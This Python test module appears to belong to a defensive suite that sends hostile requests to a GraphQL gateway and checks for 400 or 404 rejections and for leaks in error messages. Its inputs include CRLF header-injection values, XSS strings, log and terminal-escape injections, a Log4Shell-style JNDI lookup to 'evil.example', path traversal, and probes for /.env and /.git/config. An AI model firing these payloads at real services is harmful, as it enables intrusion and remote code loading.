"""Attacks on responses: header injection, and errors that reveal too much."""

from collections.abc import Iterator
from typing import Final

from support.hostile.attack import Attack, ask, get

_GROUP: Final = "what comes out"


def attacks() -> Iterator[Attack]:
    """List all attacks of this class. Every response of any attack is checked for leaks."""
    for name, value in (
        ("a line feed", b"a\nX-Evil: 1"),
        ("a carriage return", b"a\rX-Evil: 1"),
        ("a script", b"<script>alert(1)</script>"),
        ("NUL", b"a\0b"),
        ("quotes for the log", b'a","level":"error'),
        ("a terminal's colours", b"\x1b[31mred"),
        ("30 KB", b"a" * 30_000),
        ("an emoji", "😀".encode()),
        ("a template", b"{{7*7}}${jndi:ldap://evil.example/a}"),
    ):
        send = ask("{__typename}", None, b"X-Request-Id: " + value + b"\r\n")
        yield Attack(
            group=_GROUP,
            name=f"a request id of {name}",
            send=send,
            wants=("answer", 400),
        )
    for name, query, wants in (
        (
            "a field of markup",
            "{<img src=x onerror=alert(1)>}",
            ("GRAPHQL_PARSE_FAILED",),
        ),
        ("a field of the interpreter", "{__import__}", ("GRAPHQL_VALIDATION_FAILED",)),
        ("a suggestion", "{modls{totalCount}}", ("GRAPHQL_VALIDATION_FAILED",)),
        (
            "a text of format strings",
            '{model(modelId:"%s%s%n{0.__class__}"){name}}',
            ("answer", "BAD_USER_INPUT"),
        ),
        (
            "a wrong scalar",
            '{models(limit:"\\u0000"){totalCount}}',
            ("GRAPHQL_VALIDATION_FAILED",),
        ),
        (
            "a wrong enum",
            "{models(orderBy:{field:__class__ direction:ASC}){totalCount}}",
            ("GRAPHQL_VALIDATION_FAILED",),
        ),
        (
            "a wrong date",
            '{models(filter:{releaseDate:{from:"x"}}){totalCount}}',
            ("GRAPHQL_VALIDATION_FAILED", "BAD_USER_INPUT"),
        ),
        ("a cost nobody may see", "{models{totalCount}}", ("answer",)),
    ):
        yield Attack(
            group=_GROUP, name=f"an error about {name}", send=ask(query), wants=wants
        )
    yield from _told()
    yield Attack(
        group=_GROUP,
        name="a trace that is off",
        send=ask("{models{totalCount}}", None, b"X-Catalograph-Trace: 1\r\n"),
        wants=("answer",),
    )
    for target in (
        b"/.env",
        b"/.git/config",
        b"/admin",
        b"/debug/pprof",
        b"/docs/",
        b"/openapi.json",
        b"/server-status",
        b"/GRAPHQL",
        b"/graphql;a=b",
        b"/healthz/../metrics",
        b"/healthz/",
        b"/metrics/",
        b"/schema.graphql/",
        b"/graphql/assets/a/",
        b"//evil.example/",
        b"http://evil.example/readyz/",
    ):
        yield Attack(
            group=_GROUP, name=f"GET {target.decode()}", send=get(target), wants=(404,)
        )
    for accept in (
        b"application/openmetrics-text; version=1.x",
        b"application/openmetrics-text; version=1..2; escaping=",
        b"text/plain; version=a; escaping=b",
        b"," * 20_000,
        b"\xff",
    ):
        yield Attack(
            group=_GROUP,
            name=f"metrics as {accept[:60]!r}",
            send=get(b"/metrics", headers=b"Accept: " + accept + b"\r\n"),
            wants=(200,),
        )


def _told() -> Iterator[Attack]:
    """Build attacks on error messages: quoted input, and schema names without introspection."""
    limited = "query($a:Int){models(limit:$a){totalCount}}"
    ordered = "query($a:ModelOrder){models(orderBy:$a){totalCount}}"
    named = "query($a:ID!){node(id:$a){id}}"
    for name, query, value in (
        ("a boolean for a number", limited, True),
        ("null in an object", limited, {"a": None, "b": [None, False]}),
        ("null for an enum", ordered, {"field": None, "direction": True}),
        ("a list of null", ordered, [None]),
        ("null for an id", named, None),
        ("an object for an id", named, {"a": None}),
        ("nothing for an id", named, ...),
    ):
        yield Attack(
            group=_GROUP,
            name=f"an error that quotes {name}",
            send=ask(query, {} if value is ... else {"a": value}),
            wants=("BAD_USER_INPUT",),
        )
    for name, query, variables in (
        ("_service", "{_service{sdl}}", None),
        ("_service in a fragment", "{...F} fragment F on Query{a:_service{sdl}}", None),
        ("a field without selections", "{models}", None),
        ("a type that is nearly one", "{...on Modl{id}}", None),
        ("an argument that is nearly one", "{models(limit_:1){totalCount}}", None),
        ("a directive that is nearly one", "{__typename @includes(if:true)}", None),
        ("a value of an enum that is nearly one", ordered, {"a": {"field": "NAM"}}),
        (
            "a field of an input that is nearly one",
            "query($a:ModelFilter){models(filter:$a){totalCount}}",
            {"a": {"provider": []}},
        ),
    ):
        yield Attack(
            group=_GROUP,
            name=f"where introspection is off: {name}",
            send=ask(query, variables, b"X-API-Key: open-sesame\r\n"),
            wants=("GRAPHQL_VALIDATION_FAILED", "BAD_USER_INPUT"),
            gateway="guarded",
        )
    yield Attack(
        group=_GROUP,
        name="where introspection is off: the schema as text",
        send=get(b"/schema.graphql", headers=b"X-API-Key: open-sesame\r\n"),
        wants=(404,),
        gateway="guarded",
    )
